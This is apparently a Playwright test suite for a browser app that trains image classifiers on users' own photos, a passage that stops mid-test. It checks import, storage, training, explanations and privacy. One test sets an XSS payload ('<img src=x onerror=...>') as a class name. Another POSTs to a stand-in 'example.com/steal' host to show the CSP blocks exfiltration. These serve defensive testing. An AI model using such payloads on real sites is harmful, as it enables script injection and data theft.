// Your own photos, in headless Chromium: classes, importing by picker, drop
// and zip, every bad file of the issue skipped with its reason, the grid
// drawing only what is in view, training, testing a new photo (file and
// webcam) with an occlusion map, keeping the project across reloads and
// browser restarts, export/import to "another machine", clearing, and
// privacy: no request leaves the page's origin, and the CSP says so.
import { test, before } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { createRequire } from 'node:module';
import { copyFileSync, existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { launch, newPage } from '../support/browser.mjs';
import { useSite, DIST } from '../support/site.mjs';
import { openPhotos, addShapes, importDone, renameClass, circlePhoto } from '../support/photos.mjs';

const site = useSite();

// Photo files of every kind, made by the repository's own generator.
const FIXTURES = process.env.PHOTO_FIXTURES ?? join(tmpdir(), 'cnn-school-photo-fixtures');
before(() => {
  if (!existsSync(join(FIXTURES, 'split.zip'))) {
    execFileSync('cargo', ['run', '-q', '-p', 'cnn-photos', '--example', 'fixtures', '--features', 'fixtures', '--', FIXTURES], { stdio: 'inherit' });
  }
});

const FAKE_CAMERA = ['--use-fake-device-for-media-stream', '--use-fake-ui-for-media-stream'];

/** Pixel `[r, g, b]` at (x, y) of a canvas. */
const pixel = (page, selector, x, y) =>
  page.$eval(selector, (c, [x, y]) => Array.from(c.getContext('2d').getImageData(x, y, 1, 1).data.slice(0, 3)), [x, y]);

const near = (got, want, tol = 40) => got.every((v, i) => Math.abs(v - want[i]) <= tol);

test('classes: any name shown as text, colours, 2 to 10 of them', async () => {
  const { page, errors } = await newPage(site.browser);
  await openPhotos(page, site.url);
  assert.equal(await page.getAttribute('body', 'data-classes'), '2');
  await renameClass(page, 0, '<img src=x onerror="window.hacked=1"> 貓咪');
  await page.waitForFunction(() => document.querySelector('li.class-card').dataset.class.includes('貓咪'));
  assert.equal(await page.$$eval('li.class-card img', (l) => l.length), 0, 'a name is never markup');
  assert.equal(await page.evaluate(() => window.hacked), undefined);
  // A second class of the same name is refused with a sentence.
  await renameClass(page, 1, '<IMG src=x onerror="window.hacked=1"> 貓咪');
  await page.waitForSelector('#ph-message');
  assert.match(await page.textContent('#ph-message'), /already a class called/);
  for (let k = 3; k <= 10; k++) await page.click('#ph-add-class');
  assert.equal(await page.getAttribute('body', 'data-classes'), '10');
  assert.ok(await page.isDisabled('#ph-add-class'), 'at most 10 classes');
  const colours = await page.$$eval('input.class-colour', (l) => l.map((i) => i.value));
  assert.equal(new Set(colours).size, 10, 'each class its own colour');
  await page.locator('li.class-card').nth(9).locator('button[aria-label^="Remove the class"]').click();
  await page.waitForFunction(() => document.body.dataset.classes === '9');
  assert.deepEqual(errors, []);
  await page.close();
});

test('every format imports upright and in its true colours; each bad file is skipped with its reason', async () => {
  const { page, errors } = await newPage(site.browser);
  await openPhotos(page, site.url);
  const good = readdirSync(join(FIXTURES, 'good')).sort();
  const bad = readdirSync(join(FIXTURES, 'bad')).sort();
  const files = [...good.map((f) => join(FIXTURES, 'good', f)), ...bad.map((f) => join(FIXTURES, 'bad', f))];
  await page.locator('input[data-class-input]').first().setInputFiles(files);
  await importDone(page, good.length);
  const skipped = await page.$$eval('#ph-skipped li', (l) => l.map((li) => li.textContent));
  assert.equal(skipped.length, bad.length, skipped.join('\n'));
  const reasons = {
    'empty.jpg': /empty \(0 bytes\)/,
    'truncated.jpg': /cut short/,
    'cut.png': /cut short/,
    'notes.jpg': /not a picture/,
    'drawing.svg': /SVG drawing/,
    'photo.heic': /HEIC/,
    'bomb.png': /30000×30000 pixels/,
  };
  for (const name of bad) {
    const line = skipped.find((s) => s.startsWith(`${name}:`));
    assert.ok(line, `${name} is named among the skipped`);
    if (reasons[name]) assert.match(line, reasons[name], line);
  }
  // Each good photo: open its preview and check its colours where the generator put them.
  for (const name of good) {
    await page.click(`button.thumb-pick[title="${name}"]`);
    await page.waitForFunction((n) => document.querySelector('.ph-preview figcaption')?.textContent.startsWith(n), name);
    const size = await page.$eval('canvas.picture.original', (c) => [c.width, c.height]);
    const upright = name === 'rotated.jpg' ? [80, 120] : [120, 80];
    assert.deepEqual(size, upright, `${name} is kept upright at its size`);
    const [w, h] = size;
    const tol = name.endsWith('.jpg') ? 60 : 12;
    // The generator's layout (crates/cnn-photos/src/fixtures.rs): the left
    // half red, the right half blue, the top-left block green; the
    // grey-with-alpha photo composited on white gives 127, 60 and 255.
    const grey = name === 'gray-alpha.png';
    const points = [
      [[Math.floor(w / 8), Math.floor(h / 8)], grey ? [127, 127, 127] : [0, 255, 0]],
      [[Math.floor(w / 4), Math.floor((h * 3) / 4)], grey ? [60, 60, 60] : [255, 0, 0]],
      [[Math.floor((w * 3) / 4), Math.floor(h / 2)], grey ? [255, 255, 255] : [0, 0, 255]],
    ];
    for (const [[x, y], want] of points) {
      const got = await pixel(page, 'canvas.picture.original', x, y);
      assert.ok(near(got, want, tol), `${name} at (${x}, ${y}): ${got}, want ${want}`);
    }
  }
  // The browser's own decoder did them all (the image crate is the fallback).
  assert.equal(await page.getAttribute('body', 'data-decoders'), `${good.length},0`);
  assert.deepEqual(errors, []);
  await page.close();
});

test('the workers bring the photos in: two cores share an import, and the page says so', async () => {
  const { page, errors } = await newPage(site.browser);
  await openPhotos(page, site.url);
  await page.selectOption('#ph-cores', '2');
  // The first import starts the training worker's peer; the second waits
  // until the peer has loaded, and then both take photos.
  await addShapes(page, 0, 'circle', 3, { prefix: 'first' });
  await importDone(page, 3);
  await page.waitForSelector('body[data-peers="1"]');
  await addShapes(page, 1, 'square', 12, { w: 1600, h: 1200, type: 'image/jpeg' });
  await importDone(page, 15);
  assert.equal(await page.getAttribute('body', 'data-import-workers'), '2');
  assert.match(await page.textContent('#ph-import-workers'), /^2 workers read and shrink the photos, one per core, so the page stays free\.$/);
  // What either worker made is whole: kept at 224 pixels on the short side,
  // its thumbnail drawn from the store (the import showed its class).
  await page.click('button.thumb-pick[title="square-11.jpg"]');
  await page.waitForFunction(() => document.querySelector('.ph-preview figcaption')?.textContent.startsWith('square-11.jpg'));
  assert.deepEqual(await page.$eval('canvas.picture.original', (c) => [c.width, c.height]), [299, 224]);
  await page.waitForFunction(() => document.querySelectorAll('li.thumb canvas[data-drawn]').length === 12);
  assert.deepEqual(errors, []);
  await page.close();
});

test('the image crate decodes, in the worker, what the browser does not', async () => {
  const { page, errors } = await newPage(site.browser);
  // The worker's code is held back until the photos are on their way: what
  // the page asks of a worker that is not yet listening must wait, not be
  // lost (CI once lost these decodes on a busy machine).
  let release;
  const held = new Promise((resolve) => { release = resolve; });
  await page.route('**/trainer_bg.wasm', async (route) => { await held; await route.continue(); });
  await openPhotos(page, site.url);
  await page.evaluate(() => { window.__photoDecoder = 'crate'; });
  const good = readdirSync(join(FIXTURES, 'good')).sort();
  await page.locator('input[data-class-input]').first().setInputFiles(good.map((f) => join(FIXTURES, 'good', f)));
  await page.waitForFunction(() => document.body.dataset.import === 'running');
  release();
  await importDone(page, good.length);
  assert.equal(await page.getAttribute('body', 'data-decoders'), `0,${good.length}`);
  await page.click('button.thumb-pick[title="rotated.jpg"]');
  await page.waitForFunction(() => document.querySelector('.ph-preview figcaption')?.textContent.startsWith('rotated.jpg'));
  assert.deepEqual(await page.$eval('canvas.picture.original', (c) => [c.width, c.height]), [80, 120]);
  assert.ok(near(await pixel(page, 'canvas.picture.original', 10, 15), [0, 255, 0], 60), 'upright by EXIF: green top-left');
  assert.ok(near(await pixel(page, 'canvas.picture.original', 60, 60), [0, 0, 255], 60), 'upright by EXIF: blue right');
  assert.deepEqual(errors, []);
  await page.close();
});

test('a zip laid out as the slides\' download keeps its train and validation split', async () => {
  const { page, errors } = await newPage(site.browser);
  await openPhotos(page, site.url);
  // cats_and_dogs_filtered/{train,validation}/{cats,dogs}: 4 + 2 of each.
  await page.locator('input[data-class-input]').first().setInputFiles(join(FIXTURES, 'split.zip'));
  await importDone(page, 12);
  const names = await page.$$eval('input.class-name', (l) => l.map((i) => i.value));
  assert.deepEqual(names, ['cats', 'dogs'], 'train/ and validation/ are places, not classes');
  const rows = await page.$$eval('#ph-split tbody tr', (l) => l.map((tr) => Array.from(tr.querySelectorAll('td'), (td) => td.textContent)));
  assert.deepEqual(rows, [['6', '4', '2'], ['6', '4', '2']], 'the folders decide, not the 25% share');
  assert.match(await page.textContent('#ph-split-kept'), /Every photo keeps the place its folder gave it/);
  // The worker holds out exactly the validation folders' four photos.
  await page.click('#ph-start');
  await page.waitForSelector('body[data-train="done"]', { timeout: 180_000 });
  const judged = await page.$$eval('#ph-confusion td.num', (l) => l.reduce((sum, td) => sum + Number(td.textContent), 0));
  assert.equal(judged, 4);
  // The places are kept with the project: after a reload, the same split.
  await page.reload();
  await page.waitForSelector('body[data-ready="true"]');
  const again = await page.$$eval('#ph-split tbody tr', (l) => l.map((tr) => Array.from(tr.querySelectorAll('td'), (td) => td.textContent)));
  assert.deepEqual(again, rows);
  assert.deepEqual(errors, []);
  await page.close();
});

test('a zip laid out one folder per class makes the classes', async () => {
  const { page, errors } = await newPage(site.browser);
  await openPhotos(page, site.url);
  await page.locator('input[data-class-input]').first().setInputFiles(join(FIXTURES, 'classes.zip'));
  await page.waitForFunction(() => document.body.dataset.import === 'done');
  const names = await page.$$eval('input.class-name', (l) => l.map((i) => i.value));
  assert.deepEqual(names, ['cats', 'dogs'], 'the folders name the classes (no empty default classes left)');
  const counts = await page.$$eval('.class-count', (l) => l.map((p) => Number.parseInt(p.textContent, 10)));
  assert.ok(counts.every((c) => c > 0), `${counts}`);
  assert.equal(await page.$$eval('#ph-skipped li', (l) => l.length), 0, '__MACOSX and dotfiles are not photos');
  // A zip too big to open is refused from its size, before it is read.
  const huge = join(mkdtempSync(join(tmpdir(), 'cnn-huge-')), 'everything.zip');
  writeFileSync(huge, '');
  truncateSync(huge, 600 * 1024 * 1024);
  await page.locator('input[data-class-input]').first().setInputFiles(huge);
  await page.waitForFunction(() => /everything\.zip: this zip is 600 MB; the page opens zips up to 512 MB/.test(document.querySelector('#ph-message')?.textContent ?? ''));
  assert.deepEqual(errors, []);
  await page.close();
});

test('files dropped on a class, and a folder dropped on the page', async () => {
  const { page, errors } = await newPage(site.browser);
  await openPhotos(page, site.url);
  // Files dropped on the second class's card.
  const bytes = readFileSync(join(FIXTURES, 'good', 'photo.png')).toString('base64');
  await page.evaluate((b64) => {
    const data = Uint8Array.from(atob(b64), (c) => c.charCodeAt(0));
    const dt = new DataTransfer();
    for (const name of ['a.png', 'b.png']) dt.items.add(new File([data], name, { type: 'image/png' }));
    const card = document.querySelectorAll('li.class-card')[1];
    card.dispatchEvent(new DragEvent('dragover', { dataTransfer: dt, bubbles: true, cancelable: true }));
    card.dispatchEvent(new DragEvent('drop', { dataTransfer: dt, bubbles: true, cancelable: true }));
  }, bytes);
  await importDone(page, 2);
  const counts = await page.$$eval('.class-count', (l) => l.map((p) => Number.parseInt(p.textContent, 10)));
  assert.deepEqual(counts, [0, 2]);
  // A file dropped elsewhere on the page goes to the class shown (the one just dropped on).
  await page.evaluate((b64) => {
    const data = Uint8Array.from(atob(b64), (c) => c.charCodeAt(0));
    const dt = new DataTransfer();
    dt.items.add(new File([data], 'c.png', { type: 'image/png' }));
    const title = document.querySelector('h2.stage-title');
    title.dispatchEvent(new DragEvent('dragover', { dataTransfer: dt, bubbles: true, cancelable: true }));
    title.dispatchEvent(new DragEvent('drop', { dataTransfer: dt, bubbles: true, cancelable: true }));
  }, bytes);
  await importDone(page, 3);
  assert.deepEqual(await page.$$eval('.class-count', (l) => l.map((p) => Number.parseInt(p.textContent, 10))), [0, 3]);
  // A real drag of a folder from the desktop, through the DevTools protocol.
  const cdp = await page.context().newCDPSession(page);
  const box = await page.locator('li.class-card').first().boundingBox();
  const at = { x: box.x + box.width / 2, y: box.y + box.height / 2 };
  const desk = mkdtempSync(join(tmpdir(), 'cnn-desktop-'));
  mkdirSync(join(desk, 'cats'));
  for (const name of ['one.png', 'two.png']) copyFileSync(join(FIXTURES, 'good', 'photo.png'), join(desk, 'cats', name));
  const data = { items: [], files: [join(desk, 'cats')], dragOperationsMask: 1 };
  for (const type of ['dragEnter', 'dragOver', 'drop']) {
    await cdp.send('Input.dispatchDragEvent', { type, ...at, data });
  }
  await page.waitForFunction(() => document.body.dataset.import === 'done' && [...document.querySelectorAll('input.class-name')].some((i) => i.value === 'cats'));
  assert.deepEqual(errors, []);
  await page.close();
});

test('a thousand-photo class draws only the rows in view', async () => {
  const { page, errors } = await newPage(site.browser);
  await openPhotos(page, site.url);
  await addShapes(page, 0, 'circle', 400, { w: 40, h: 30 });
  await importDone(page, 400);
  const rendered = await page.$$eval('li.thumb', (l) => l.length);
  assert.ok(rendered > 0 && rendered <= 80, `${rendered} thumbnails in the DOM for 400 photos`);
  await page.$eval('.photo-grid', (g) => { g.scrollTop = g.scrollHeight; g.dispatchEvent(new Event('scroll')); });
  await page.waitForSelector('li.thumb button[title="circle-399.png"]');
  assert.ok((await page.$$eval('li.thumb', (l) => l.length)) <= 80);
  assert.deepEqual(errors, []);
  await page.close();
});

test('an import cut short by a reload keeps every photo already stored', async () => {
  const { page, errors } = await newPage(site.browser);
  await openPhotos(page, site.url);
  await addShapes(page, 0, 'square', 120, { w: 1600, h: 1200, type: 'image/jpeg' });
  await page.waitForFunction(() => Number(document.body.dataset.photos) >= 5);
  await page.reload();
  await page.waitForSelector('body[data-ready="true"]');
  const kept = Number(await page.getAttribute('body', 'data-photos'));
  assert.ok(kept >= 5 && kept < 120, `${kept} kept`);
  // Each kept photo is whole: its thumbnail draws.
  await page.waitForSelector('li.thumb canvas');
  assert.deepEqual(errors, []);
  await page.close();
});

test('photos are kept at 224 pixels in the store and the page holds neither them nor their thumbnails; a project kept by the last version moves over whole', async () => {
  const { page, errors } = await newPage(site.browser);
  // A project as the last version kept it (database version 1: each
  // record holds its pixels), written before the photos page opens.
  await page.goto(`${site.url}/`);
  await page.evaluate(() => new Promise((done, fail) => {
    const req = indexedDB.open('cnn-school-photos', 1);
    req.onupgradeneeded = () => {
      req.result.createObjectStore('photos');
      req.result.createObjectStore('project');
    };
    req.onerror = () => fail(req.error);
    req.onsuccess = () => {
      const db = req.result;
      const tx = db.transaction('photos', 'readwrite');
      [[1, 1, [200, 30, 30]], [2, 2, [30, 30, 200]]].forEach(([id, cls, rgb]) => {
        const px = new Uint8Array(160 * 120 * 3);
        for (let i = 0; i < px.length; i++) px[i] = rgb[i % 3];
        tx.objectStore('photos').put({ id, class: cls, name: `old-${id}.png`, width: 160, height: 120, rgb: px }, id);
      });
      tx.oncomplete = () => { db.close(); done(); };
      tx.onerror = () => fail(tx.error);
    };
  }));
  await openPhotos(page, site.url);
  assert.equal(await page.getAttribute('body', 'data-photos'), '2');
  // Moved to the new layout: a thumbnail in the record, the pixels apart.
  const layout = () => page.evaluate(() => new Promise((done) => {
    const req = indexedDB.open('cnn-school-photos');
    req.onsuccess = () => {
      const db = req.result;
      const tx = db.transaction(['photos', 'thumbs', 'pixels']);
      const out = { version: db.version, records: [], thumbs: {}, pixels: {} };
      tx.objectStore('photos').getAll().onsuccess = (e) => {
        out.records = e.target.result.map((r) => ({ id: r.id, thumb: 'thumb' in r, rgb: 'rgb' in r, width: r.width, height: r.height }));
      };
      for (const store of ['thumbs', 'pixels']) {
        tx.objectStore(store).openCursor().onsuccess = (e) => {
          const c = e.target.result;
          if (c) { out[store][c.key] = c.value.length; c.continue(); }
        };
      }
      tx.oncomplete = () => { db.close(); done(out); };
    };
  }));
  let kept = await layout();
  assert.equal(kept.version, 2);
  assert.deepEqual(kept.records.map((r) => [r.id, r.thumb, r.rgb]), [[1, false, false], [2, false, false]]);
  assert.deepEqual(kept.thumbs, { 1: 72 * 72 * 3, 2: 72 * 72 * 3 });
  assert.deepEqual(kept.pixels, { 1: 160 * 120 * 3, 2: 160 * 120 * 3 });
  // The thumbnail is read back and drawn, and the preview reads the pixels.
  await page.waitForSelector('li.thumb canvas[data-drawn]');
  assert.ok(near(await pixel(page, 'li.thumb canvas', 36, 36), [200, 30, 30], 2));
  await page.click('li.thumb button.thumb-pick');
  await page.waitForSelector('#ph-seen');
  assert.match(await page.textContent('.ph-preview figcaption'), /old-1\.png \(160×120, as kept\)/);
  assert.ok(near(await pixel(page, '#ph-seen', 10, 10), [200, 30, 30], 2));
  // A camera photo is kept at 224 on its shorter side (4:3 → 299×224).
  await addShapes(page, 0, 'square', 1, { w: 1600, h: 1200, type: 'image/jpeg', prefix: 'big' });
  await importDone(page, 3);
  kept = await layout();
  const big = kept.records.find((r) => r.id === 3);
  assert.deepEqual([big.width, big.height, big.thumb, big.rgb], [299, 224, false, false]);
  assert.equal(kept.thumbs[3], 72 * 72 * 3);
  assert.equal(kept.pixels[3], 299 * 224 * 3);
  await page.click('li.thumb[data-photo="3"] button.thumb-pick');
  await page.waitForFunction(() => /big-0\.jpg \(299×224, as kept\)/.test(document.querySelector('.ph-preview figcaption')?.textContent));
  // The limit is 10,000 photos a project.
  assert.match(await page.textContent('#main'), /up to 10,000 photos in all/);
  assert.deepEqual(errors, []);
  await page.close();
});

test('a project holds 10,000 photos: one near the limit loads, and an import past it says how many were left out', async () => {
  const { page, errors } = await newPage(site.browser);
  // 9,990 photos kept as this version keeps them (database version 2: a
  // record each, the thumbnail and the pixels apart), written before the
  // page opens, half in each class.
  await page.goto(`${site.url}/`);
  const kept = 9990;
  await page.evaluate((kept) => new Promise((done, fail) => {
    const req = indexedDB.open('cnn-school-photos', 2);
    req.onupgradeneeded = () => ['photos', 'thumbs', 'pixels', 'project'].forEach((n) => req.result.createObjectStore(n));
    req.onerror = () => fail(req.error);
    req.onsuccess = () => {
      const db = req.result;
      const tx = db.transaction(['photos', 'thumbs', 'pixels'], 'readwrite');
      const thumb = new Uint8Array(72 * 72 * 3).fill(90);
      const px = new Uint8Array(4 * 3 * 3).fill(90);
      for (let id = 1; id <= kept; id++) {
        tx.objectStore('photos').put({ id, class: 1 + (id % 2), name: `kept-${id}.png`, width: 4, height: 3 }, id);
        tx.objectStore('thumbs').put(thumb, id);
        tx.objectStore('pixels').put(px, id);
      }
      tx.oncomplete = () => { db.close(); done(); };
      tx.onerror = () => fail(tx.error);
    };
  }), kept);
  await openPhotos(page, site.url);
  assert.equal(await page.getAttribute('body', 'data-photos'), String(kept));
  assert.match(await page.textContent('#main'), /9,990 of 10,000 photos/);
  // The grid reads the thumbnails of the rows in view from the store.
  await page.waitForSelector('li.thumb canvas[data-drawn]');
  assert.ok(near(await pixel(page, 'li.thumb canvas', 36, 36), [90, 90, 90], 0));
  // Twenty more: ten fit.
  await addShapes(page, 0, 'circle', 20, { w: 40, h: 30 });
  await importDone(page, 10_000);
  assert.match(await page.textContent('#ph-message'), /at most 10,000 photos, so 10 were not added/);
  assert.match(await page.textContent('#main'), /The project holds its 10,000 photos\. Remove some/);
  assert.deepEqual(errors, []);
  await page.close();
});

test('bad settings are refused with the field named; too few photos says what to do', async () => {
  const { page, errors } = await newPage(site.browser);
  await openPhotos(page, site.url);
  await page.waitForSelector('#ph-start:not([disabled])');
  await page.click('#ph-start');
  await page.waitForSelector('#ph-message');
  assert.match(await page.textContent('#ph-message'), /at least two classes/);
  await page.fill('#ph-batch', '0');
  await page.press('#ph-batch', 'Tab');
  await page.fill('#ph-lr', '-1');
  await page.press('#ph-lr', 'Tab');
  await page.click('#ph-start');
  await page.waitForSelector('#ph-err-batch');
  await page.waitForSelector('#ph-err-lr');
  assert.deepEqual(errors, []);
  await page.close();
});

test('the whole workflow: import, train, test a photo and the webcam, reload, restart, export, import elsewhere, clear; nothing leaves the origin', async (t) => {
  const profile = mkdtempSync(join(tmpdir(), 'cnn-photos-profile-'));
  const { chromium } = await import('playwright-core');
  const { FLAGS, CHROMIUM } = await import('../support/browser.mjs');
  const start = () =>
    chromium.launchPersistentContext(profile, { executablePath: CHROMIUM, headless: true, args: [...FLAGS, ...FAKE_CAMERA], acceptDownloads: true, viewport: { width: 1280, height: 900 } });
  let context = null;
  // The persistent browser is this test's own: closed even when the test
  // fails, or node --test would wait on it forever.
  t.after(async () => {
    await context?.close();
    rmSync(profile, { recursive: true, force: true });
  });
  context = await start();
  const requests = [];
  const errors = [];
  const watch = (ctx) => {
    ctx.on('request', (r) => requests.push(r.url()));
    ctx.on('page', (p) => {
      p.on('console', (m) => m.type() === 'error' && errors.push(m.text()));
      p.on('pageerror', (e) => errors.push(String(e)));
    });
  };
  watch(context);
  let page = context.pages()[0] ?? (await context.newPage());
  page.on('console', (m) => m.type() === 'error' && errors.push(m.text()));
  await openPhotos(page, site.url);
  await renameClass(page, 0, 'circles');
  await renameClass(page, 1, 'squares');
  await addShapes(page, 0, 'circle', 24, { seed: 3 });
  await importDone(page, 24);
  await addShapes(page, 1, 'square', 24, { seed: 4 });
  await importDone(page, 48);
  // From scratch (a new project starts with transfer learning), TinyVGG.
  await page.selectOption('#ph-model', 'tiny-vgg');
  // Prepare: 32 pixels, augmentation's variants shown.
  await page.selectOption('#ph-size', '32');
  await page.waitForSelector('#ph-variants canvas');
  assert.deepEqual(await page.$eval('#ph-seen', (c) => [c.width, c.height]), [32, 32]);
  // Train TinyVGG for a few epochs.
  await page.fill('#ph-epochs', '8');
  await page.press('#ph-epochs', 'Tab');
  await page.click('#ph-start');
  await page.waitForSelector('body[data-train="training"]');
  await page.waitForSelector('canvas.curve');
  await page.waitForSelector('#ph-live-maps canvas.tile');
  await page.waitForSelector('body[data-train="done"]', { timeout: 240_000 });
  await page.waitForSelector('#ph-confusion');
  // After the run the progress line keeps its time and pace (it once read
  // "0:00 elapsed, 0:00 left · 0 images/s").
  assert.match(await page.textContent('#ph-train-progress .readout'), /, 0:00 left · [1-9][\d,]* images\/s$/);
  // Test a new photo: probabilities, every layer's maps, the occlusion map.
  const dir = mkdtempSync(join(tmpdir(), 'cnn-test-photo-'));
  const probe = join(dir, 'new-circle.png');
  const circle = await circlePhoto(page);
  writeFileSync(probe, circle.buffer);
  const png = Array.from(circle.buffer);
  await page.setInputFiles('#ph-test-input', probe);
  await page.waitForSelector('body[data-explained="true"]', { timeout: 60_000 });
  const probs = await page.$$eval('#ph-probs li', (l) => l.map((li) => [li.querySelector('.cls').textContent, Number.parseFloat(li.querySelector('.num').textContent)]));
  assert.equal(probs.length, 2);
  assert.ok(Math.abs(probs[0][1] + probs[1][1] - 100) < 0.5, `${probs}`);
  await page.waitForSelector('#ph-occlusion');
  // TinyVGG ends in flatten + dense: it has no class activation map.
  assert.equal(await page.$('#ph-cam'), null);
  assert.ok((await page.$$eval('#ph-test-maps canvas.tile', (l) => l.length)) > 0);
  assert.match(await page.textContent('.ph-result figcaption:has(+ *), .ph-result'), /grey/);
  // A photo dropped on the test area is explained too.
  await page.evaluate(() => { document.body.dataset.explained = 'false'; });
  await page.evaluate((bytes) => {
    const dt = new DataTransfer();
    dt.items.add(new File([new Uint8Array(bytes)], 'dropped.png', { type: 'image/png' }));
    const area = document.querySelector('section.ph-test');
    area.dispatchEvent(new DragEvent('dragover', { dataTransfer: dt, bubbles: true, cancelable: true }));
    area.dispatchEvent(new DragEvent('drop', { dataTransfer: dt, bubbles: true, cancelable: true }));
  }, png);
  await page.waitForSelector('body[data-explained="true"]', { timeout: 60_000 });
  assert.equal(await page.getAttribute('body', 'data-photos'), '48', 'a test photo is not added to the classes');
  // The split table shows each class's training and validation counts (25% held out).
  assert.deepEqual(await page.$$eval('#ph-split tbody tr', (rows) => rows.map((r) => [...r.querySelectorAll('td')].map((td) => td.textContent))), [['24', '18', '6'], ['24', '18', '6']]);
  // No serious or critical accessibility violation with everything on screen.
  await page.evaluate(readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8'));
  const violations = await page.evaluate(async () => (await window.axe.run(document, { resultTypes: ['violations'] })).violations
    .filter((v) => v.impact === 'serious' || v.impact === 'critical')
    .map((v) => `${v.id}: ${v.nodes.map((n) => n.target.join(' ')).slice(0, 3).join(', ')}`));
  assert.deepEqual(violations, []);
  // The webcam (Chromium's fake camera).
  await page.click('#ph-camera');
  await page.waitForSelector('#ph-snap');
  await page.waitForFunction(() => document.querySelector('video.ph-video').videoWidth > 0);
  await page.evaluate(() => { document.body.dataset.explained = 'false'; });
  await page.click('#ph-snap');
  await page.waitForSelector('body[data-explained="true"]', { timeout: 60_000 });
  await page.click('#ph-camera');
  // A reload keeps classes, photos and the model.
  await page.waitForSelector('body[data-model-kept="true"]');
  await page.reload();
  await page.waitForSelector('body[data-ready="true"]');
  assert.equal(await page.getAttribute('body', 'data-photos'), '48');
  await page.waitForSelector('body[data-model="true"]');
  // So does a browser restart (same profile).
  await context.close();
  context = await start();
  watch(context);
  page = context.pages()[0] ?? (await context.newPage());
  await openPhotos(page, site.url);
  assert.equal(await page.getAttribute('body', 'data-photos'), '48');
  assert.deepEqual(await page.$$eval('input.class-name', (l) => l.map((i) => i.value)), ['circles', 'squares']);
  await page.waitForSelector('body[data-model="true"]');
  assert.equal(await page.$eval('#ph-size', (s) => s.value), '32', 'settings kept');
  // Export the whole project...
  const [download] = await Promise.all([page.waitForEvent('download'), page.click('#ph-export')]);
  const file = join(dir, 'project.cnnproject');
  await download.saveAs(file);
  // ... and open it on "another machine" (a fresh profile), in the order
  // that once lost the model: the project is read before the worker runs.
  // (A message posted to a worker before its WebAssembly has started is
  // dropped; the page must hold the model until the worker says Ready.)
  // The worker's script is held back until the photos are in, then let go.
  const other = await newPage(site.browser, { serviceWorkers: 'block' });
  other.context.on('request', (r) => requests.push(r.url()));
  let letWorkerGo;
  const workerHeld = new Promise((resolve) => { letWorkerGo = resolve; });
  let workerAsked = false;
  await other.context.route('**/trainer_loader.js', async (route) => {
    workerAsked = true;
    await workerHeld;
    await route.continue();
  });
  await openPhotos(other.page, site.url);
  await other.page.setInputFiles('#ph-import-project', file);
  await other.page.waitForFunction(() => document.body.dataset.photos === '48');
  assert.ok(workerAsked, 'the page asked for its worker');
  assert.equal(await other.page.getAttribute('body', 'data-model'), 'false', 'no model while the worker is held');
  letWorkerGo();
  await other.page.waitForSelector('body[data-model="true"]');
  assert.deepEqual(await other.page.$$eval('input.class-name', (l) => l.map((i) => i.value)), ['circles', 'squares']);
  // A file that is not a project changes nothing.
  await other.page.setInputFiles('#ph-import-project', join(FIXTURES, 'good', 'photo.png'));
  await other.page.waitForFunction(() => /Nothing was changed/.test(document.querySelector('#ph-message')?.textContent ?? ''));
  assert.equal(await other.page.getAttribute('body', 'data-photos'), '48');
  await other.page.close();
  // Clear everything, and it stays cleared.
  await page.click('#ph-clear');
  await page.click('#ph-clear-yes');
  await page.waitForFunction(() => document.body.dataset.photos === '0');
  await page.reload();
  await page.waitForSelector('body[data-ready="true"]');
  assert.equal(await page.getAttribute('body', 'data-photos'), '0');
  await context.close();
  context = null;
  // Privacy: every request of the session went to the page's own origin.
  const origin = new URL(site.url).origin;
  const away = requests.filter((u) => !u.startsWith(origin) && !u.startsWith('blob:') && !u.startsWith('data:'));
  assert.deepEqual(away, [], 'no request leaves the origin');
  assert.ok(requests.length > 10);
  assert.deepEqual(errors, []);
});

test('a network that ends in global average pooling shows its class activation map beside the occlusion map', async () => {
  const { page, errors } = await newPage(site.browser);
  await openPhotos(page, site.url);
  await renameClass(page, 0, 'circles');
  await renameClass(page, 1, 'squares');
  await addShapes(page, 0, 'circle', 24, { seed: 5 });
  await importDone(page, 24);
  await addShapes(page, 1, 'square', 24, { seed: 6 });
  await importDone(page, 48);
  await page.selectOption('#ph-model', 'resnet-mini');
  await page.selectOption('#ph-size', '32');
  await page.fill('#ph-epochs', '4');
  await page.press('#ph-epochs', 'Tab');
  await page.click('#ph-start');
  await page.waitForSelector('body[data-train="done"]', { timeout: 240_000 });
  const [name, bytes] = await page.evaluate(async () => {
    const c = new OffscreenCanvas(160, 120);
    const g = c.getContext('2d');
    g.fillStyle = '#eed';
    g.fillRect(0, 0, 160, 120);
    g.fillStyle = '#322';
    g.fillRect(50, 30, 60, 60);
    const b = await c.convertToBlob({ type: 'image/png' });
    return ['square.png', Array.from(new Uint8Array(await b.arrayBuffer()))];
  });
  await page.setInputFiles('#ph-test-input', { name, mimeType: 'image/png', buffer: Buffer.from(bytes) });
  await page.waitForSelector('body[data-explained="true"]', { timeout: 60_000 });
  await page.waitForSelector('#ph-occlusion');
  await page.waitForSelector('#ph-cam');
  // Two residual blocks of stride 2 take the 32-pixel photo to 8x8 maps:
  // the map has their size, and the caption says how it differs from occlusion.
  const caption = await page.$eval('#ph-cam', (c) => c.closest('figure').querySelector('figcaption').textContent);
  assert.match(caption, /last 8×8 feature maps, weighted by the Dense layer/);
  assert.match(caption, /occlusion covers the photo patch by patch/);
  assert.deepEqual(errors, []);
  await page.close();
});

test('the Content-Security-Policy allows only the page\'s own origin and no inline script', async () => {
  const html = readFileSync(join(DIST, 'index.html'), 'utf8');
  const csp = html.match(/http-equiv="Content-Security-Policy" content="([^"]+)"/)?.[1];
  assert.ok(csp, 'index.html carries a CSP');
  assert.match(csp, /connect-src 'self'/);
  assert.match(csp, /script-src 'self' 'wasm-unsafe-eval'(;|$)/);
  assert.doesNotMatch(csp, /unsafe-inline'[^;]*;.*script|https?:/);
  assert.doesNotMatch(html, /<script(?![^>]*\bsrc=)[^>]*>/, 'no inline script');
  const { page, errors } = await newPage(site.browser);
  await openPhotos(page, site.url);
  const blocked = await page.evaluate(async () => {
    const seen = new Promise((r) => document.addEventListener('securitypolicyviolation', (e) => r(e.violatedDirective), { once: true }));
    try { await fetch('http://example.com/steal', { method: 'POST', body: 'photo' }); } catch { /* refused */ }
    return seen;
  });
  assert.equal(blocked, 'connect-src');
  // The refusal itself is the only console error.
